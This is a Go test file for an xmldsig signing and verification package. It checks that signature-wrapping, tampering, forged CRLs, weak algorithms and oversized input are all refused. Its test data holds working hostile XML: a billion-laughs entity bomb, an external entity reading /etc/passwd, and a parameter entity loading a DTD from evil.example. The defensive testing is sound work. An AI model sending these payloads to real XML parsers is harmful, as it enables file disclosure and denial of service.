package xmldsig

import (
	"bytes"
	"crypto/rand"
	"crypto/x509"
	"encoding/base64"
	"errors"
	"io"
	"math/big"
	"strings"
	"testing"
	"time"

	"github.com/beevik/etree"
)

func TestSignVerifyRoundTrip(t *testing.T) {
	p := getPKI(t)
	cases := []struct {
		name     string
		opts     SignOptions
		rootID   string
		wantURI  string
		wantAlg  string
		wantC14N string
	}{
		{"default", SignOptions{}, "", "", "rsa-sha256", "http://www.w3.org/2001/10/xml-exc-c14n#"},
		{"sha1 inclusive", SignOptions{Algorithm: RSASHA1, C14N: Inclusive}, "", "", "rsa-sha1", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"},
		{"root Id referenced", SignOptions{}, "pkt-1", "#pkt-1", "rsa-sha256", "http://www.w3.org/2001/10/xml-exc-c14n#"},
		{"IDAttribute not on root", SignOptions{IDAttribute: "ID"}, "pkt-1", "", "rsa-sha256", "http://www.w3.org/2001/10/xml-exc-c14n#"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			doc := edxmlDoc(tc.rootID, 500)
			signed, err := p.signer(t, false, tc.opts).Sign(doc)
			if err != nil {
				t.Fatal(err)
			}
			// Sign keeps the document as written and only appends the signature.
			if i := bytes.Index(signed, []byte("<ds:Signature")); i < 0 || !bytes.HasPrefix(signed, doc[:bytes.LastIndex(doc, []byte("</edXML>"))]) {
				t.Fatalf("signed document does not keep the input:\n%.1500s", signed)
			}
			res, err := p.verifier().Verify(signed)
			if err != nil {
				t.Fatal(err)
			}
			if res.ReferenceURI != tc.wantURI || res.Algorithm != tc.wantAlg || res.C14NMethod != tc.wantC14N {
				t.Fatalf("got uri %q alg %q c14n %q", res.ReferenceURI, res.Algorithm, res.C14NMethod)
			}
			if !res.Cert.Equal(p.leaf) || len(res.Chain) != 2 || !res.Chain[1].Equal(p.root) {
				t.Fatalf("chain = %v", res.Chain)
			}
			if !bytes.Contains(signedOf(t, res), []byte("Sở Thông tin và Truyền thông tỉnh Tuyên Quang")) || bytes.Contains(signedOf(t, res), []byte("Signature")) {
				t.Fatalf("Signed:\n%.1500s", signedOf(t, res))
			}
		})
	}
}

// mustSign signs doc with the CA-issued leaf.
// signedOf is res.Signed(), which must not fail right after Verify.
func signedOf(t testing.TB, res *Result) []byte {
	t.Helper()
	b, err := res.Signed()
	if err != nil {
		t.Fatalf("Signed: %v", err)
	}
	return b
}

func mustSign(t testing.TB, doc []byte, opts SignOptions) []byte {
	t.Helper()
	signed, err := getPKI(t).signer(t, false, opts).Sign(doc)
	if err != nil {
		t.Fatal(err)
	}
	return signed
}

func parseTree(t testing.TB, b []byte) *etree.Document {
	t.Helper()
	d := etree.NewDocument()
	if err := d.ReadFromBytes(b); err != nil {
		t.Fatal(err)
	}
	return d
}

func writeTree(t testing.TB, d *etree.Document) []byte {
	t.Helper()
	b, err := d.WriteToBytes()
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// dsSig returns the ds:Signature under d's root.
func dsSig(d *etree.Document) *etree.Element { return findSignatures(d.Root()).dsig[0] }

// wrapAttack builds signature-wrapping documents from a document signed
// with a root Id (URI="#pkt-1") or without (URI="").
func wrapAttack(t testing.TB, signed []byte, kind string) []byte {
	t.Helper()
	orig := parseTree(t, signed)
	evil := parseTree(t, signed)
	er := evil.Root()
	// The evil document: same root, changed subject, no signature yet.
	for _, s := range er.FindElements("//Subject") {
		s.SetText("V/v chuyển 5 tỷ đồng vào tài khoản 0123456789 (evil)")
	}
	sig := dsSig(evil)
	sig.Parent().RemoveChild(sig)
	switch kind {
	case "original nested under evil root with same Id":
		er.CreateElement("Wrapper").AddChild(orig.Root())
	case "original nested, evil root with another Id":
		er.RemoveAttr("Id")
		er.CreateAttr("Id", "evil")
		er.CreateElement("Wrapper").AddChild(orig.Root())
	case "original moved into ds:Object, signature on evil root":
		s := dsSig(orig)
		s.Parent().RemoveChild(s)
		er.RemoveAttr("Id")
		obj := s.CreateElement("ds:Object")
		obj.AddChild(orig.Root())
		er.AddChild(s)
	case "signature copied onto evil document":
		er.AddChild(dsSig(orig).Copy())
	case "second signature by attacker":
		evilSigned, err := mustEvilSigner(t).Sign(writeTree(t, evil))
		if err != nil {
			t.Fatal(err)
		}
		d := parseTree(t, evilSigned)
		d.Root().CreateElement("Wrapper").AddChild(dsSig(orig).Copy())
		return writeTree(t, d)
	default:
		t.Fatalf("unknown attack %q", kind)
	}
	return writeTree(t, evil)
}

func mustEvilSigner(t testing.TB) *Signer {
	p := getPKI(t)
	s, err := NewSigner(p.evilKey, []*x509.Certificate{p.evil}, SignOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestSignatureWrappingRefused(t *testing.T) {
	p := getPKI(t)
	withID := mustSign(t, edxmlDoc("pkt-1", 500), SignOptions{})
	withoutID := mustSign(t, edxmlDoc("", 500), SignOptions{})
	cases := []struct {
		name   string
		signed []byte
		want   string
	}{
		{"original nested under evil root with same Id", withID, CodeWrapped},
		{"original nested, evil root with another Id", withID, CodeWrapped},
		{"original moved into ds:Object, signature on evil root", withID, CodeWrapped},
		{"signature copied onto evil document", withID, CodeTampered},
		{"signature copied onto evil document", withoutID, CodeTampered},
		{"original nested under evil root with same Id", withoutID, CodeTampered},
		{"second signature by attacker", withoutID, CodeWrapped},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			doc := wrapAttack(t, tc.signed, tc.name)
			for _, pol := range []Policy{Require, VerifyIfPresent} {
				res, _, err := p.verifier().Check(doc, pol)
				if res != nil && bytes.Contains(signedOf(t, res), []byte("evil")) {
					t.Fatalf("%s: verified element is the evil one:\n%s", pol, signedOf(t, res))
				}
				if CodeOf(err) != tc.want {
					t.Fatalf("%s: err = %v, want %s\n%.3000s", pol, err, tc.want, doc)
				}
			}
		})
	}
}

func TestAttacksRefused(t *testing.T) {
	p := getPKI(t)
	signed := mustSign(t, edxmlDoc("", 500), SignOptions{})
	evilSigned, err := mustEvilSigner(t).Sign(edxmlDoc("", 500))
	if err != nil {
		t.Fatal(err)
	}
	crl := func(signer *x509.Certificate, serials ...*big.Int) *x509.RevocationList {
		tmpl := &x509.RevocationList{Number: big.NewInt(7), ThisUpdate: time.Now().Add(-time.Hour), NextUpdate: time.Now().Add(24 * time.Hour)}
		for _, s := range serials {
			tmpl.RevokedCertificateEntries = append(tmpl.RevokedCertificateEntries, x509.RevocationListEntry{SerialNumber: s, RevocationTime: time.Now().Add(-time.Minute)})
		}
		der, err := x509.CreateRevocationList(rand.Reader, tmpl, signer, p.rootKey)
		if err != nil {
			t.Fatal(err)
		}
		l, err := x509.ParseRevocationList(der)
		if err != nil {
			t.Fatal(err)
		}
		return l
	}
	// A CRL that claims the root as issuer but is signed by another key.
	forged := func() *x509.RevocationList {
		tmpl := &x509.RevocationList{Number: big.NewInt(8), ThisUpdate: time.Now().Add(-time.Hour), NextUpdate: time.Now().Add(time.Hour),
			RevokedCertificateEntries: []x509.RevocationListEntry{{SerialNumber: p.leaf.SerialNumber, RevocationTime: time.Now()}}}
		fakeRoot := *p.root
		der, err := x509.CreateRevocationList(rand.Reader, tmpl, &fakeRoot, p.evilKey)
		if err != nil {
			t.Fatal(err)
		}
		l, err := x509.ParseRevocationList(der)
		if err != nil {
			t.Fatal(err)
		}
		return l
	}()
	keyInfoSwapped := func() []byte {
		d := parseTree(t, evilSigned)
		for _, xc := range d.FindElements("//ds:X509Certificate") {
			xc.SetText(certB64(p.leaf))
		}
		return writeTree(t, d)
	}()
	setAlg := func(path, alg string) []byte {
		d := parseTree(t, signed)
		d.FindElement(path).SelectAttr("Algorithm").Value = alg
		return writeTree(t, d)
	}
	addTransform := func(alg string) []byte {
		d := parseTree(t, signed)
		d.FindElement("//ds:Transforms").CreateElement("ds:Transform").CreateAttr("Algorithm", alg)
		return writeTree(t, d)
	}
	large := edxmlDoc("", 5000)

	cases := []struct {
		name      string
		doc       []byte
		v         *Verifier
		want      string
		wantWarn  string
		wantValid bool
	}{
		{name: "valid", doc: signed, v: p.verifier(), wantValid: true},
		{name: "tampered text", doc: bytes.Replace(signed, []byte("Công văn</"), []byte("Quyết định</"), 1), want: CodeTampered},
		{name: "tampered attribute added", doc: bytes.Replace(signed, []byte(`edXMLManifest version="1.0"`), []byte(`edXMLManifest version="1.0" priority="9"`), 1), want: CodeTampered},
		{name: "tampered SignatureValue", doc: tamperSigValue(t, signed), want: CodeTampered},
		{name: "signature not base64", doc: replaceText(t, signed, "//ds:SignatureValue", "!!!not-base64!!!"), want: CodeTampered},
		{name: "untrusted self-signed cert", doc: evilSigned, want: CodeUntrustedCert},
		{name: "trusted cert in KeyInfo, attacker's key", doc: keyInfoSwapped, want: CodeTampered},
		{name: "wrong roots", doc: signed, v: &Verifier{Roots: pool(p.inter)}, want: CodeUntrustedCert},
		{name: "no roots configured", doc: signed, v: &Verifier{}, want: CodeUntrustedCert},
		{name: "expired", doc: signed, v: &Verifier{Roots: pool(p.root), Now: func() time.Time { return p.notAfter.Add(time.Minute) }}, want: CodeExpiredCert},
		{name: "not yet valid", doc: signed, v: &Verifier{Roots: pool(p.root), Now: func() time.Time { return p.notBefore.Add(-time.Minute) }}, want: CodeExpiredCert},
		{name: "revoked", doc: signed, v: &Verifier{Roots: pool(p.root), CRLs: []*x509.RevocationList{crl(p.root, big2(99), p.leaf.SerialNumber)}}, want: CodeRevokedCert},
		{name: "CRL without the serial", doc: signed, v: &Verifier{Roots: pool(p.root), CRLs: []*x509.RevocationList{crl(p.root, big2(99))}}, wantValid: true},
		{name: "forged CRL ignored", doc: signed, v: &Verifier{Roots: pool(p.root), CRLs: []*x509.RevocationList{forged}}, wantValid: true, wantWarn: WarnCRLInvalid},
		{name: "billion laughs", doc: []byte(`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>`), want: CodeDTD},
		{name: "external entity", doc: []byte(`<?xml version="1.0"?><!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><edXML xmlns="` + edNS + `">&xxe;</edXML>`), want: CodeDTD},
		{name: "parameter entity", doc: []byte(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>`), want: CodeDTD},
		{name: "DOCTYPE after a comment", doc: append([]byte("<!-- c --><!DOCTYPE edXML SYSTEM \"x.dtd\">"), signed[bytes.Index(signed, []byte("<edXML")):]...), want: CodeDTD},
		{name: "DOCTYPE inside a comment is fine", doc: append([]byte("<!-- <!DOCTYPE x> -->"), signed[bytes.Index(signed, []byte("<edXML")):]...), wantValid: true},
		{name: "undeclared entity", doc: []byte(`<x>&nbsp;</x>`), want: CodeMalformed},
		{name: "not UTF-8", doc: bytes.Replace(signed, []byte(`encoding="UTF-8"`), []byte(`encoding="ISO-8859-1"`), 1), want: CodeMalformed},
		{name: "too large", doc: large, v: &Verifier{Roots: pool(p.root), MaxBytes: 4096}, want: CodeTooLarge},
		{name: "not XML", doc: []byte("{\"json\": true}"), want: CodeMalformed},
		{name: "empty", doc: nil, want: CodeMalformed},
		{name: "no signature", doc: edxmlDoc("", 10), want: CodeNoSignature},
		{name: "HMAC signature method", doc: setAlg("//ds:SignatureMethod", "http://www.w3.org/2000/09/xmldsig#hmac-sha1"), want: CodeAlgorithm},
		{name: "MD5 digest", doc: setAlg("//ds:DigestMethod", "http://www.w3.org/2001/04/xmldsig-more#md5"), want: CodeAlgorithm},
		{name: "XPath transform", doc: addTransform("http://www.w3.org/TR/1999/REC-xpath-19991116"), want: CodeAlgorithm},
		{name: "XSLT transform", doc: addTransform("http://www.w3.org/TR/1999/REC-xslt-19991116"), want: CodeAlgorithm},
		{name: "SHA-1 rejected by config", doc: mustSign(t, edxmlDoc("", 10), SignOptions{Algorithm: RSASHA1}), v: &Verifier{Roots: pool(p.root), RejectSHA1: true}, want: CodeAlgorithm},
		{name: "SHA-1 warns by default", doc: mustSign(t, edxmlDoc("", 10), SignOptions{Algorithm: RSASHA1}), wantValid: true, wantWarn: WarnSHA1},
		{name: "reference to a missing id", doc: setURI(t, signed, "#nowhere"), want: CodeWrapped},
		{name: "external reference", doc: setURI(t, signed, "http://evil.example/doc.xml"), want: CodeAlgorithm},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := tc.v
			if v == nil {
				v = p.verifier()
			}
			res, err := v.Verify(tc.doc)
			if tc.wantValid {
				if err != nil {
					t.Fatalf("err = %v, want valid", err)
				}
				if tc.wantWarn != "" && !hasWarning(res.Warnings, tc.wantWarn) {
					t.Fatalf("warnings = %v, want %s", res.Warnings, tc.wantWarn)
				}
				return
			}
			if res != nil || CodeOf(err) != tc.want {
				t.Fatalf("err = %v (result %v), want %s", err, res != nil, tc.want)
			}
			if !errors.Is(err, &Error{Code: tc.want}) {
				t.Fatalf("errors.Is does not match the code")
			}
		})
	}
}

func big2(n int64) *big.Int { return big.NewInt(n) }

func certB64(c *x509.Certificate) string { return base64.StdEncoding.EncodeToString(c.Raw) }

func replaceText(t testing.TB, signed []byte, path, text string) []byte {
	d := parseTree(t, signed)
	d.FindElement(path).SetText(text)
	return writeTree(t, d)
}

func tamperSigValue(t testing.TB, signed []byte) []byte {
	d := parseTree(t, signed)
	e := d.FindElement("//ds:SignatureValue")
	v := []byte(e.Text())
	if v[10] == 'A' {
		v[10] = 'B'
	} else {
		v[10] = 'A'
	}
	e.SetText(string(v))
	return writeTree(t, d)
}

func setURI(t testing.TB, signed []byte, uri string) []byte {
	d := parseTree(t, signed)
	d.FindElement("//ds:Reference").SelectAttr("URI").Value = uri
	return writeTree(t, d)
}

// countingReader serves endless XML and counts what was read.
type countingReader struct{ n int64 }

func (r *countingReader) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = 'a'
	}
	r.n += int64(len(b))
	return len(b), nil
}

func TestVerifyReaderStopsAtLimit(t *testing.T) {
	v := &Verifier{Roots: pool(getPKI(t).root), MaxBytes: 1 << 16}
	r := &countingReader{}
	_, err := v.VerifyReader(io.MultiReader(strings.NewReader("<edXML>"), r))
	if CodeOf(err) != CodeTooLarge {
		t.Fatalf("err = %v, want %s", err, CodeTooLarge)
	}
	if r.n > v.MaxBytes+1 {
		t.Fatalf("read %d bytes for a limit of %d", r.n, v.MaxBytes)
	}
	signed := mustSign(t, edxmlDoc("", 100), SignOptions{})
	if _, err := v.VerifyReader(bytes.NewReader(signed)); err != nil {
		t.Fatalf("VerifyReader of a valid document: %v", err)
	}
}
